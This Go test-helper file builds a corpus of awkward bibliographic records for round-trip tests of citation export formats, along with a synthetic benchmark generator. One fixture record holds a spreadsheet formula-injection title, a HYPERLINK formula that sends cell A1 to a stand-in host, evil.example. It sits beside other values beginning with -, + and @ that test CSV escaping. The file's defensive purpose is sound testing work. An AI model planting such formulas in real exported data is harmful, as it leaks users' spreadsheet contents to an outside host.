package biblitest

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"quarry/internal/biblio"
	"quarry/internal/research"
)

// Types lists every publication type, so a corpus can be checked to cover
// them all.
var Types = []string{biblio.Article, biblio.Conference, biblio.Preprint, biblio.Book, biblio.Chapter, biblio.Thesis, biblio.Report, biblio.Misc}

// Corpus returns the varied records every format's round trip uses, each
// already through biblio.Finish: every type (and one without a type),
// unicode and accents, LaTeX-special characters, text that looks like
// another format's syntax, multi-paragraph abstracts, long values that
// wrap, missing fields, particles, suffixes, collective and inverted
// names, and marks and notes with semicolons and line breaks. One corpus
// for all formats means a hard case found for one is tried on all.
func Corpus(t testing.TB) []biblio.Record {
	t.Helper()
	long := strings.Repeat("Screening by active learning reduces the reviewers' workload considerably. ", 12)
	recs := []biblio.Record{
		{Type: biblio.Article, Paper: research.RawPaper{
			Title:    "Deep learning for the détection of naïve Bayes & 50% of $x_i$ #hash {braces} ~tilde ^caret \\backslash",
			Authors:  []string{"Yann LeCun", "Ludwig van Beethoven", "Martin Luther King Jr.", "Zoë Ångström-Ünal", "José María de la Fontaine", "World Health Organization"},
			Year:     2015,
			Venue:    "Nature — Research & Reviews",
			Volume:   "521",
			Issue:    "7553",
			Pages:    "436-444",
			Abstract: "First paragraph with ünïcödé.\n\nSecond paragraph: 100% of _underscores_ & {braces}.\nA line that ends here.",
			DOI:      "10.1038/nature14539",
			URL:      "https://www.nature.com/articles/nature14539",
			PMID:     "26017442",
		}, Keywords: []string{"deep learning", "neural networks; convolutional", "Ünïcode keyword", "a, b", "C++ & Rust"},
			Mark: biblio.Relevant, Note: "seminal; read twice\nsecond line of the note"},
		{Type: biblio.Article, Paper: research.RawPaper{
			Title:    "Ökologische Effekte von Stickstoff: eine Übersicht",
			Authors:  []string{"Jörg Schäfer", "Ana Müller", "Åse K. Øverland", "PRISMA 2020 Working Group"},
			Year:     2021,
			Venue:    "BMJ (Clinical research ed.)",
			Volume:   "372",
			Issue:    "8",
			Pages:    "n71",
			Abstract: "BACKGROUND: first paragraph.\n\nMETHODS: second paragraph. " + long + "\n\n\nThird after two blank lines «signifikant» — 95 % KI.",
			DOI:      "https://doi.org/10.1136/bmj.n71",
			PMID:     "33782057",
			URL:      "https://example.org/a_b%20c~d?x={1}&y=2",
		}, Keywords: []string{"systematic reviews", "reporting; guidelines"},
			Mark: biblio.Relevant, Note: "core guideline; cite in methods"},
		{Type: biblio.Conference, Paper: research.RawPaper{
			Title: "Tags inside text", Authors: []string{"Ada Lovelace", "Łukasz Kaiser"}, Year: 1843, Venue: "Proc. Analytical Engines",
			Pages:    "e1234",
			Abstract: "Line one\nER  - this line looks like the end of a record\nTY  - JOUR\nPMID- 123\n@article{k, title = {x}}\n  indented line\nAB  -\n\"quoted\", with commas; and semicolons\nlast",
		}, Mark: biblio.Irrelevant, Note: "wrong population; adults only; excluded at T/A"},
		{Type: biblio.Conference, Paper: research.RawPaper{
			Title:   "Costs & benefits: 100% of $x_{i}$ with #tags, {braces}, ~tilde, ^caret and \\backslash",
			Authors: []string{"Jean-Luc Picard", "Maria de la Cruz"}, Year: 2019, Venue: "Proceedings of the ACM SIGIR Conference", Pages: "5-6",
			Abstract: "Uses 50% less memory & $O(n)$ time; see \\cite{x} and {braces}. Ends with a backslash \\",
			DOI:      "10.1145/3331184.3331185", ArxivID: "1706.03762",
		}},
		{Type: biblio.Preprint, Paper: research.RawPaper{
			Title: "Scaling laws", Authors: []string{"Jared Kaplan"}, Year: 2020, ArxivID: "2001.08361v2", DOI: "10.48550/arXiv.2001.08361",
		}, Note: "only a note; with semicolon"},
		{Type: biblio.Preprint, Paper: research.RawPaper{
			Title: "Preprint with arXiv URL and ID", ArxivID: "2103.03404v2", URL: "https://arxiv.org/abs/2103.03404v2",
		}},
		{Type: biblio.Preprint, Paper: research.RawPaper{Title: "An old-style arXiv preprint", ArxivID: "hep-th/9901001v2", Year: 1999}},
		{Type: biblio.Preprint, Paper: research.RawPaper{Title: "A bioRxiv preprint", Authors: []string{"Jane Doe"}, Year: 2023, Venue: "bioRxiv", DOI: "10.1101/2023.01.01.123456"}},
		{Type: biblio.Book, Paper: research.RawPaper{
			Title: "Introduction to Information Retrieval", Authors: []string{"Christopher D. Manning", "Hinrich Schütze"}, Year: 2008, Venue: "Cambridge University Press",
		}, Note: "Quarry mark look-alike; not a mark"},
		{Type: biblio.Chapter, Paper: research.RawPaper{Title: "Evaluation", Pages: "151-175", Venue: "Introduction to Information Retrieval", Year: 2008, Authors: []string{"Björk Guðmundsdóttir", "Søren Kierkegaard"}}, Keywords: []string{"qualitative"}},
		{Type: biblio.Chapter, Paper: research.RawPaper{Title: "Ein Kapitel über Straßen", Authors: []string{"Jürgen Groß"}, Venue: "Handbuch der Dinge", Pages: "1--20"}},
		{Type: biblio.Thesis, Paper: research.RawPaper{Title: "Robust estimation", Authors: []string{"Lucía García-Márquez"}, Year: 2019, Venue: "Universidad de Sevilla"}},
		{Type: biblio.Report, Paper: research.RawPaper{Title: "PRISMA 2020 [doi]", Pages: "12 - 15", PMID: "PMC123456", Issue: "TR-7", Venue: "Stanford University", Authors: []string{"Barnes and Noble", "others"}}},
		{Type: biblio.Report, Paper: research.RawPaper{Title: "Annual report on antimicrobial resistance", Authors: []string{"Research and Development Corp."}, Year: 2020, PMID: "32000000"}, Mark: biblio.Relevant},
		{Type: biblio.Misc, Paper: research.RawPaper{Title: "Only a title"}},
		{Type: biblio.Misc, Paper: research.RawPaper{Title: "Misc with an arXiv ID stays misc", ArxivID: "1706.03762", URL: "http://x.org/\\@{}", Venue: "Blog"}},
		{Type: biblio.Misc, Paper: research.RawPaper{Title: "日本語のタイトル ☃ Ωmega", Authors: []string{"山田 太郎"}, Year: 2023, URL: "https://zenodo.org/record/1"}},
		{Type: biblio.Article, Paper: research.RawPaper{Title: "Year below 1000", Year: 999, Pages: "12-15-18", Authors: []string{"Plato"}}},
		{Type: biblio.Article, Paper: research.RawPaper{
			Title:   "Ligatures --- and '' and `` and -- in a title",
			Authors: []string{"O'Brien, Conan", "Jean-Paul Sartre", "Charles de Gaulle", "Smith, Jr., John", "King, Martin Luther, Jr."},
		}},
		{Paper: research.RawPaper{Title: "No type at all", Authors: []string{"Ann Lee"}}},
		// Cells a spreadsheet would run as formulas, and values that start
		// with an apostrophe, the character CSV puts before such a cell.
		{Type: biblio.Misc, Paper: research.RawPaper{
			Title: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, Authors: []string{"-Minus Author", "'Tis Quoted"},
			Venue: "@handle", Abstract: "+1 for formulas\n-2 on the second line", Pages: "-5",
		}, Keywords: []string{"-minus", "'quoted"}, Note: "'=already quoted by hand"},
		{Type: biblio.Article, Paper: research.RawPaper{Title: "'Tis the season: a title that starts with an apostrophe", Venue: "''Double'' apostrophes"}, Note: "''=two apostrophes then an equals sign"},
	}
	for i := range recs {
		biblio.Finish(&recs[i])
		require.Empty(t, recs[i].Problem, recs[i].Paper.Title)
	}
	return recs
}

// Synthetic returns the i-th record of the benchmark file: a few authors
// (one with a particle), an abstract of one to three paragraphs with
// characters formats escape, a different identifier by turn, every type
// in turn, and a mark and note on every seventh record.
func Synthetic(i int) biblio.Record {
	words := []string{"learning", "retrieval", "systematic", "review", "neural", "screening", "bayesian", "évaluation", "graph", "query"}
	title := fmt.Sprintf("A study of %s & %s number %d", words[i%10], words[(i/10)%10], i)
	var abstract strings.Builder
	for p := 0; p <= i%3; p++ {
		if p > 0 {
			abstract.WriteString("\n\n")
		}
		for s := range 8 {
			fmt.Fprintf(&abstract, "Sentence %d about %s in paragraph %d (50%% of {cases}). ", s, words[(i+s)%10], p)
		}
	}
	rec := biblio.Record{Type: Types[i%len(Types)], Paper: research.RawPaper{
		Title: title, Year: 1990 + i%35, Venue: "Journal of " + words[i%10],
		Volume: fmt.Sprint(i % 90), Issue: fmt.Sprint(i % 12), Pages: fmt.Sprintf("%d-%d", i%500, i%500+12),
		Abstract: abstract.String(),
	}, Keywords: []string{words[i%10], words[(i+3)%10]}}
	for a := 0; a <= i%5; a++ {
		rec.Paper.Authors = append(rec.Paper.Authors, fmt.Sprintf("Author%d M. Surname%d", a, i%1000))
	}
	if i%2 == 0 {
		rec.Paper.Authors = append(rec.Paper.Authors, "Ludwig van Beethoven")
	}
	switch i % 4 {
	case 0:
		rec.Paper.DOI = fmt.Sprintf("10.1000/x.%d", i)
	case 1:
		rec.Paper.ArxivID = fmt.Sprintf("2101.%05d", i)
	case 2:
		rec.Paper.PMID = fmt.Sprint(30000000 + i)
	}
	if i%7 == 0 {
		rec.Mark, rec.Note = biblio.Relevant, "keep; cited in the protocol"
	}
	return rec
}
